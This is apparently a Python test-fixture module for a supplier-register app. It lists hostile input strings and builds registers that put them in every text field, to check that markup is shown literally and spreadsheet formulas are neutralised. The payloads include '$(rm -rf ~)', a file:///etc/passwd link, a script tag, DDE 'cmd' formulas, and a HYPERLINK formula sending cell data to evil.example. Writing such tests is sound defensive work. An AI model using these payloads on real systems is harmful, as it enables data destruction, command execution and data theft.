"""Hostile text used across the tests: markup, formula and control payloads.

Any screen or export that shows user text is checked against these: markup
must show literally and never run an action, formulas must be neutralised.
"""

from __future__ import annotations

import datetime as dt

from supplier_register.domain import Answer, Contract, Person, Register, Supplier
from supplier_register.scoring.questions import default_question_bank

MARKUP_PAYLOADS = [
    "[/]",
    "[@click=app.quit]x[/]",
    "[link=file:///etc/passwd]x[/]",
    "[Sons]",
    "Acme [UK] Ltd",
    "[[nested [bold]brackets[/bold]]]",
    "[bold red]loud[/]",
    "\\[escaped] and trailing \\",
    "back\\\\slash \\[/]",
    "[/bold]unopened",
    "[@click=app.bell]ring[/] [@click=screen.dismiss]x[/]",
    "[on red]",
    ":warning: :smile:",
    "$(rm -rf ~) `whoami`",
    "<script>alert(1)</script>",
    "%s %n {0} {name}",
]
"""Text that rich/Textual markup, emoji codes or shells would interpret."""

FORMULA_PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
]
"""Text a spreadsheet would run as a formula if written into a cell unguarded."""


PAYLOADS = [p.strip() for p in MARKUP_PAYLOADS]
"""The markup payloads as a field keeps them (surrounding blanks are trimmed on input)."""

ACTIVE = ("[@click", "[link=")
"""How the payloads that would run an action or open a link begin."""

EVERYTHING = "[@click=app.quit]every field[/] [link=file:///etc/passwd]x[/]"
"""A supplier holding every payload at once: contracts, partners, evidence, notes."""


def supplier_name(i: int) -> str:
    """The supplier whose name is payload ``i``."""
    return f"{PAYLOADS[i]} #{i}"


def person_name(i: int) -> str:
    """The person whose name is payload ``i`` (and who owns supplier ``i``)."""
    return f"{PAYLOADS[i]} ~{i}"


def every_field_register(today: dt.date) -> Register:
    """Every payload in every text field.

    One supplier, owner and contract per payload (the payload as the supplier's
    name, notes, partner, owner's name and contact, contract title, extension
    options, evidence and who answered), and ``EVERYTHING``, one supplier with
    every payload in its notes, partners, contracts and answers.
    """
    n = len(PAYLOADS)
    questions = [q.id for q in default_question_bank().questions][:n]
    everything = Register(
        suppliers=[
            Supplier(
                name=EVERYTHING,
                category="epr",
                criticality="strategic",
                owner=person_name(1),
                notes="\n".join(PAYLOADS),
                shared_with=[f"{p} partner" for p in PAYLOADS],
            )
        ],
        contracts=[
            Contract(
                supplier=EVERYTHING,
                title=f"{p} contract",
                what_is_bought="commodity",
                contract_type="time_and_materials",
                extension_options=p,
            )
            for p in PAYLOADS
        ],
        answers=[
            Answer(
                supplier=EVERYTHING,
                question_id=q,
                answer="partly",
                evidence=p,
                answered_by=person_name(i),
            )
            for i, (p, q) in enumerate(zip(PAYLOADS, questions, strict=True))
        ],
    )
    return Register(
        people=[
            Person(name=person_name(i), role="senior_manager", contact=PAYLOADS[i])
            for i in range(n)
        ],
        suppliers=[
            Supplier(
                name=supplier_name(i),
                category="other",
                criticality=["low", "medium", "high", "strategic"][i % 4],
                owner=person_name(i),
                notes=PAYLOADS[i],
                shared_with=[f"{PAYLOADS[i]} partner"],
            )
            for i in range(n)
        ]
        + everything.suppliers,
        contracts=[
            Contract(
                supplier=supplier_name(i),
                title=f"{PAYLOADS[i]} contract",
                what_is_bought="commodity",
                contract_type="time_and_materials",
                extension_options=PAYLOADS[i],
                end_date=today.replace(year=today.year + 1),
                auto_renewal=True,
            )
            for i in range(n)
        ]
        + everything.contracts,
        answers=[
            Answer(
                supplier=supplier_name(i),
                question_id="options.bulk_export",
                answer="no",
                evidence=PAYLOADS[i],
                answered_by=person_name(i),
            )
            for i in range(n)
        ]
        + everything.answers,
    )
